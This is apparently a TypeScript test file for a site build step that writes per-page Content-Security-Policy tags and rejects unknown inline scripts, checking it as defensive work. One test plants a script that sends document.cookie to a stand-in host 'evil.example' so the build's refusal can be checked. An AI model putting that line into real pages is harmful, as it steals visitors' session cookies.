import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, expect, it } from "vitest";
import { readConfig } from "#web/shared/config/environment.server.ts";
import { policyOfPage, servedDocuments, writePagePolicies } from "./pagePolicies.server";
import { notFoundPageIn } from "./prerenderedHtml.server";
import { scriptHash } from "./securityHeaders.server";

const page = (script: string) =>
  `<!DOCTYPE html><html><head><meta charSet="utf-8"/><script>${script}</script></head></html>`;
/** A script of the shape React Router writes a page's loader data in. */
const loaderData = (data: string) =>
  `window.__reactRouterContext.streamController.enqueue(${JSON.stringify(JSON.stringify(data))});`;

let client: string;
afterEach(() => rmSync(path.dirname(client), { recursive: true, force: true }));

/** A client build with two pages, the English 404.html and each language's 404 page, each with its own inline script. */
function clientBuild() {
  client = path.join(mkdtempSync(path.join(tmpdir(), "build-")), "client");
  const files = {
    pricing: path.join(client, "pricing", "index.html"),
    about: path.join(client, "about", "index.html"),
    notFound: path.join(client, "404.html"),
    "notFound en": notFoundPageIn(client, "en"),
    "notFound es": notFoundPageIn(client, "es"),
  };
  for (const [data, file] of Object.entries(files)) {
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, page(loaderData(data)));
  }
  return files;
}

it("serves the pages, 404.html and each language's 404 page", () => {
  const files = clientBuild();
  expect(servedDocuments(client).sort()).toEqual(Object.values(files).sort());
});

it("gives each page a policy, first in its head, that allows its own scripts and no other page's", () => {
  const files = clientBuild();
  writePagePolicies(client, readConfig({}));
  for (const [data, file] of Object.entries(files)) {
    const html = readFileSync(file, "utf8");
    expect(html, data).toMatch(
      /^<!DOCTYPE html><html><head><meta charSet="utf-8"\/><meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self' 'sha256-/,
    );
    const policy = policyOfPage(html)!;
    for (const other of Object.keys(files))
      if (other === data) expect(policy, data).toContain(scriptHash(loaderData(other)));
      else expect(policy, `${data}, ${other}`).not.toContain(scriptHash(loaderData(other)));
  }
});

it("refuses a built page with an inline script the site does not write, naming the page", () => {
  const files = clientBuild();
  writeFileSync(files.pricing, page('fetch("https://evil.example/?" + document.cookie)'));
  expect(() => writePagePolicies(client, readConfig({}))).toThrow(
    /Inline scripts the site does not write, refused[^]*pricing\/index\.html: "fetch\(/,
  );
});

it("refuses a page whose scripts come before its charset, naming the page", () => {
  const files = clientBuild();
  writeFileSync(
    files.about,
    page(loaderData("about")).replace('<meta charSet="utf-8"/>', "") + '<meta charSet="utf-8"/>',
  );
  expect(() => writePagePolicies(client, readConfig({}))).toThrow(
    /about\/index\.html: no <meta charSet="utf-8"\/> before its scripts/,
  );
});
